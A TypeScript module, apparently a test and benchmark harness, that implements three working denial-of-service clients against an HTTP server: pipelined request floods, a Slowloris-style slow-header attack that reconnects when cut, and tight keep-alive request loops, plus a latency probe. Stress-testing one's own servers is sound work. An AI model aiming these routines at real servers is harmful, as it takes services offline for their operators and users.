/**
 * Clients that overload an HTTP server: bursts of pipelined requests, sockets that never finish a request, and clients
 * that repeat their request without a pause. Used by the tests, by the bench, and by hand (`run.ts`).
 */
import { Agent, get } from 'node:http';
import { connect, type Socket } from 'node:net';

/** The attacked server. */
export interface Target {
  readonly host: string;
  readonly port: number;
  readonly path: string;
}

/** An attack under way. */
export interface Attack extends AsyncDisposable {
  /** Complete answers, where the attacker reads any. */
  answers(): number;
}

export const ATTACKS = { pipelined, slow, 'keep-alive': keepAlive } as const;
export type AttackName = keyof typeof ATTACKS;

const CONNECTIONS = { pipelined: 90, slow: 200, keepAlive: 40 };

/** Each of them is sent on each connection at once. */
const PIPELINED_REQUESTS = 200;

/** Keeps so many sockets open, each of them renewed when it is cut. */
function renewed(
  target: Target,
  count: number,
  begin: (socket: Socket) => void,
): Pick<Attack, typeof Symbol.asyncDispose> {
  const open = new Set<Socket>();
  let isOver = false;
  const start = (): void => {
    const socket = connect({ host: target.host, port: target.port });
    open.add(socket);
    socket.on('connect', () => begin(socket));
    // It comes by `close` as well.
    socket.on('error', () => {});
    socket.on('close', () => {
      open.delete(socket);
      if (!isOver) setTimeout(start, 10);
    });
  };
  for (let index = 0; index < count; index += 1) start();
  return {
    [Symbol.asyncDispose]: async () => {
      isOver = true;
      for (const socket of open) socket.destroy();
      await new Promise((resolve) => setTimeout(resolve, 20));
    },
  };
}

/** 90 connections, each with 200 requests at once; the answers are read, and another 200 are sent after them. */
export function pipelined(target: Target): Attack {
  const burst = `GET ${target.path} HTTP/1.1\r\nHost: ${target.host}\r\n\r\n`.repeat(PIPELINED_REQUESTS);
  let answers = 0;
  const attack = renewed(target, CONNECTIONS.pipelined, (socket) => {
    let left = PIPELINED_REQUESTS;
    socket.write(burst);
    socket.setEncoding('latin1').on('data', (text: string) => {
      const seen = text.split('HTTP/1.1 ').length - 1;
      answers += seen;
      left -= seen;
      if (left > 0) return;
      left = PIPELINED_REQUESTS;
      socket.write(burst);
    });
  });
  return { ...attack, answers: () => answers };
}

/** 200 sockets, each of which sends a head byte by byte and comes again when it is cut off. */
export function slow(target: Target): Attack {
  const attack = renewed(target, CONNECTIONS.slow, (socket) => {
    socket.resume();
    socket.write(`GET ${target.path} HTTP/1.1\r\nHost: ${target.host}\r\nX-Slow: `);
    const drip = setInterval(() => socket.write('x'), 500);
    socket.on('close', () => clearInterval(drip));
  });
  return { ...attack, answers: () => 0 };
}

/** 40 clients, each on a connection of its own, each with its next request as soon as it has its answer. */
export function keepAlive(target: Target): Attack {
  const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS.keepAlive });
  let answers = 0;
  let isOver = false;
  const askAgain = (): void => {
    if (isOver) return;
    const request = get({ ...target, agent }, (answer) => {
      answer.resume();
      answer.on('end', () => (answers += 1));
      answer.on('close', () => setImmediate(askAgain));
    });
    request.on('error', () => setTimeout(askAgain, 10));
  };
  for (let client = 0; client < CONNECTIONS.keepAlive; client += 1) askAgain();
  return {
    answers: () => answers,
    [Symbol.asyncDispose]: async () => {
      isOver = true;
      agent.destroy();
      await new Promise((resolve) => setTimeout(resolve, 20));
    },
  };
}

/** The time that a client with a connection of its own waits for an answer, in ms; `null` where none arrives. */
export function answerMs({ host, port }: Target, path: string): Promise<number | null> {
  const beganMs = performance.now();
  return new Promise((resolve) => {
    const request = get({ host, port, path, agent: false, timeout: 10_000 }, (answer) => {
      answer.resume();
      answer.on('end', () => resolve(performance.now() - beganMs));
    });
    request.on('timeout', () => request.destroy());
    request.on('error', () => resolve(null));
  });
}
